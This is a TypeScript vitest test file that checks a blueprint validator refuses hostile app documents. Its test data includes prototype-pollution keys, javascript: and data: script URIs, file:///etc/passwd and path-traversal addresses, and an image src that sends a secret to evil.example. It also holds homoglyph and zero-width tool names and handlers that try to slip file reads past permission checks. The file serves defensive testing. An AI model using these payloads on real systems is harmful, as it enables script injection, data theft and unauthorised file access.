/** Documents that mean harm: each is refused, or disarmed, with a message that says why. */
import { describe, expect, test } from 'vitest';
import { everyStep } from './handler-steps.ts';
import { derivePermissions, effectivePermissions, repairDocument } from './index.ts';
import type { IssueCode } from './issue-codes.ts';
import { parseBlueprint, validateBlueprint } from './validate.ts';

const frame = {
  app: { id: 'a', name: 'A' },
  data: { secret: 'x', list: [] },
  ui: { title: 'A', components: [] as unknown[] },
};
const one = (component: unknown) => ({ ...frame, ui: { ...frame.ui, components: [component] } });
const click = (handler: unknown) => one({ type: 'button', on_event: { click: handler } });

/** The codes that a document is refused with; empty when it is let pass. */
function refused(document: unknown, options = {}): IssueCode[] {
  const result =
    typeof document === 'string' ? parseBlueprint(document, options) : validateBlueprint(document, options);
  return result.ok ? [] : [...new Set(result.issues.map(({ code }) => code))];
}

describe('too much', () => {
  test('ten megabytes, before anything is read', () => {
    expect(refused(`{"app":"${'x'.repeat(10_000_000)}"}`)).toEqual(['too-large']);
    expect(refused({ ...frame, data: { x: 'x'.repeat(10_000_000) } })).toEqual(['too-large']);
  });
  test.each([
    ['lists', `{"data":${'['.repeat(120_000)}`],
    ['lists that are closed', `{"data":${'['.repeat(100_000)}${']'.repeat(100_000)}}`],
    [
      'components',
      `{"app":{"id":"a","name":"A"},"ui":{"title":"A","components":[${'{"type":"row","children":['.repeat(40)}${']}'.repeat(40)}]}}`,
    ],
    [
      'handlers',
      `{"app":{"id":"a","name":"A"},"ui":{"title":"A","lifecycle":{"on_mount":${'{"tool":"math.pi","ok":'.repeat(60)}"math.pi"${'}'.repeat(60)}},"components":[]}}`,
    ],
  ])('nested %s', (_what, text) => {
    expect(['too-deep', 'not-json']).toContain(refused(text)[0]);
  });
  test('an expression nested as deep as its characters allow', () => {
    expect(refused(one({ type: 'text', if: `=${'('.repeat(999)}1${')'.repeat(999)}` }))).toEqual(['bad-expression']);
  });
  test('components that templates multiply', () => {
    const twice = (name: string) => ({
      component: { type: 'col', children: Array.from({ length: 10 }, () => ({ type: 'use', template: name })) },
    });
    const templates = { a: twice('b'), b: twice('c'), c: twice('d'), d: { component: { type: 'divider' } } };
    const uses = Array.from({ length: 10 }, () => ({ type: 'use', template: 'a' }));
    expect(refused({ ...frame, templates, ui: { ...frame.ui, components: uses } })).toEqual(['too-many-components']);
  });
  test('a flood of timers', () => {
    const every = (count: number, ms: number) => ({
      ...frame,
      ui: {
        ...frame.ui,
        lifecycle: { on_interval: Array.from({ length: count }, () => ({ every: ms, do: 'math.pi' })) },
      },
    });
    expect(refused(every(11, 1000))).toEqual(['bad-value']);
    expect(refused(every(1, 10))).toEqual(['bad-value']);
    const sources = Object.fromEntries(
      Array.from({ length: 11 }, (_, index) => [`s${index}`, { tool: 'math.pi', refresh: 1 }]),
    );
    expect(refused({ ...frame, sources })).toEqual(['too-many-timers']);
    expect(refused({ ...frame, sources: { s: { tool: 'math.pi', refresh: 0.01 } } })).toEqual(['bad-value']);
  });
});

describe('names that reach a prototype', () => {
  test.each([
    [
      'data',
      '{"app":{"id":"a","name":"A"},"data":{"__proto__":{"polluted":1}},"ui":{"title":"A","components":[]}}',
      'forbidden-name',
    ],
    [
      'props',
      '{"app":{"id":"a","name":"A"},"ui":{"title":"A","components":[{"type":"text","props":{"constructor":{"prototype":1}}}]}}',
      'forbidden-name',
    ],
    ['a path', JSON.stringify(one({ type: 'input', props: { label: 'x' }, bind: 'secret.__proto__' })), 'bad-path'],
    ['an expression', JSON.stringify(one({ type: 'text', props: { text: "=secret['constructor'].x" } })), ''],
    [
      'an expression by its name',
      JSON.stringify(one({ type: 'text', props: { text: '=secret.constructor' } })),
      'bad-expression',
    ],
    [
      'a parameter',
      JSON.stringify({ ...frame, templates: { t: { params: ['__proto__'], component: { type: 'text' } } } }),
      'forbidden-name',
    ],
    [
      'a computed value',
      '{"app":{"id":"a","name":"A"},"computed":{"prototype":"=1"},"ui":{"title":"A","components":[]}}',
      'forbidden-name',
    ],
  ])('%s', (_where, text, code) => {
    // A name that is worked out while the app runs is refused then.
    expect(refused(text)).toEqual(code === '' ? [] : [code]);
    expect(({} as { polluted?: unknown }).polluted).toBe(undefined);
  });
});

describe('addresses', () => {
  test.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java\nscript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:image/svg+xml,<svg/>\n, https://evil.example/',
    'vbscript:x',
    'file:///etc/passwd',
    'blob:https://evil.example/x',
    'http://evil.example/x.png',
    '//evil.example/x.png',
    '/a/../../etc/passwd',
    '/home/../etc/passwd',
    'https://evil.example/x.png',
    'https://evil.example\\@good.example/x.png',
    'https://user:secret@evil.example/x.png',
  ])('%j is not loaded', (src) => {
    for (const type of ['image', 'video', 'audio', 'iframe', 'hologram']) {
      const codes = refused(one({ type, props: { src } }), { tolerant: true });
      if (src.startsWith('data:image/')) continue;
      expect(codes).toContain('unsafe-address');
    }
  });
  test('data does not leave through them, wherever the expression hides', () => {
    for (const props of [
      { src: "='https://evil.example/?' + secret" },
      { src: ['=secret'] },
      { poster: '=secret' },
      { href: '=secret' },
    ]) {
      expect(refused(one({ type: 'image', props }), { tolerant: true })).toContain('literal-only');
    }
    const template = { params: ['to'], component: { type: 'image', props: { src: '=to' } } };
    expect(refused({ ...frame, templates: { template } })).toContain('literal-only');
    expect(refused(one({ type: 'hologram', fallback: { type: 'image', props: { src: '=secret' } } }))).toContain(
      'literal-only',
    );
  });
});

describe('tools that hide', () => {
  test.each([
    'storage.clear ',
    ' storage.clear',
    'storage .clear',
    'st\u043erage.clear',
    'storage\u2024clear',
    'storage.cl\u200bear',
    'STORAGE.CLEAR',
    'storage.clear\u0000',
  ])('%j is no tool', (tool) => {
    const result = validateBlueprint(click(tool));
    expect(refused(click(tool))).toEqual(['unknown-tool']);
    const message = result.ok ? '' : (result.issues[0]?.message ?? '');
    // What cannot be seen is spelt out.
    if (/[^\x21-\x7e]/.test(tool.trim())) expect(message).toMatch(/U\+|spaces/);
    expect(
      derivePermissions({ ...frame, ui: { ...frame.ui, components: [{ type: 'button', on_event: { click: tool } }] } }),
    ).toEqual([]);
  });
  test('a tool is never worked out', () => {
    expect(refused(click({ tool: "='storage.' + 'clear'" }))).toEqual(['unknown-tool']);
    expect(refused(click('=secret'))).toEqual(['unknown-tool']);
  });
  test('a handler cannot hide from permissions in text, in a handler that is an argument, or behind a failure', () => {
    const reads = { tool: 'filesystem.read', args: { path: '/home/secret' } };
    for (const handler of [
      { tool: 'math.pi', error: reads },
      { tool: 'math.pi', ok: [{ tool: 'math.pi', ok: reads }] },
      { tool: 'timer.set', args: { delay_ms: 1, action: reads } },
      {
        tool: 'toast.show',
        args: { message: 'x', action_handler: { tool: 'timer.set', args: { delay_ms: 1, action: reads } } },
      },
    ]) {
      expect(refused({ ...click(handler), services: ['filesystem'] })).toContain('permission-missing');
    }
  });
});

describe('rights', () => {
  const reads = (path: string) => ({
    ...frame,
    ui: {
      title: 'A',
      components: [{ type: 'button', on_event: { click: { tool: 'filesystem.read', args: { path } } } }],
    },
  });
  test('an edit that needs more gets nothing of it', () => {
    const granted = ['STANDARD', 'READ_FILE:/home/a'];
    const before = effectivePermissions(['READ_FILE:/home/a'], derivePermissions(reads('/home/a')), granted);
    expect(before).toContain('READ_FILE:/home/a');
    const after = effectivePermissions(['READ_FILE:/home/**'], derivePermissions(reads('=secret')), granted);
    expect(after.filter((text) => text !== 'STANDARD')).toEqual(['READ_FILE:/home/a']);
    expect(effectivePermissions(['READ_FILE:/home/b'], derivePermissions(reads('/home/b')), granted)).toEqual([
      'STANDARD',
    ]);
  });
  test('paths climb out of neither a root nor a right', () => {
    const services = [{ filesystem: { root: '/home/Books' } }];
    for (const path of ['/home/Books/../secret', '/home/Books/./../../etc/passwd', '/home/Bookshelf/a', '/home']) {
      expect(refused({ ...reads(path), services })).toContain('service-refused');
    }
    const derived = derivePermissions({ ...reads('/home/Books/../secret'), services: ['filesystem'] });
    expect(effectivePermissions(['READ_FILE:/home/Books/**'], derived, ['READ_FILE:/home/Books/**'])).not.toContain(
      'READ_FILE:/home/secret',
    );
  });
  test('a repair gives no right and arms no unknown tool', () => {
    const repair = repairDocument({ ...reads('/home/a'), app: { ...frame.app, permissions: ['STANDARD'] } });
    expect(repair.ok && repair.blueprint.app.permissions).toEqual(['STANDARD', 'READ_FILE:/home/a']);
    const granted = repair.ok
      ? effectivePermissions(repair.blueprint.app.permissions ?? [], derivePermissions(repair.blueprint), ['STANDARD'])
      : [];
    expect(granted).toEqual(['STANDARD']);
    const hidden = repairDocument(click('st\u043erage.clear'));
    expect(hidden.ok && derivePermissions(hidden.blueprint)).toEqual([]);
    expect(hidden).toMatchObject({ ok: true, degraded: true });
  });
  test.each([
    ['a question', { confrim: 'Remove all?' }],
    ['a condition', { when: '=secret == 1' }],
    ['a condition of another language', { condition: { eq: [1, 2] } }],
    ['what follows a failure', { on_error: 'storage.clear' }],
  ])('a repair does not take %s away from a step that it does not understand', (_what, guard) => {
    const step = { tool: 'storage.clear', ...guard };
    for (const handler of [step, [step], { tool: 'math.pi', ok: step }]) {
      const repair = repairDocument({ ...click(handler), services: ['storage'] });
      const tools = repair.ok ? [...everyStep(repair.blueprint)].map(({ tool }) => tool) : [];
      expect(tools).not.toContain('storage.clear');
    }
  });
  test('a repair leaves out remarks in a step', () => {
    const repair = repairDocument(click({ tool: 'math.pi', comment: 'the ratio', description: 'of a circle' }));
    expect(repair.ok && [...everyStep(repair.blueprint)].map(({ tool }) => tool)).toEqual(['math.pi']);
  });
});
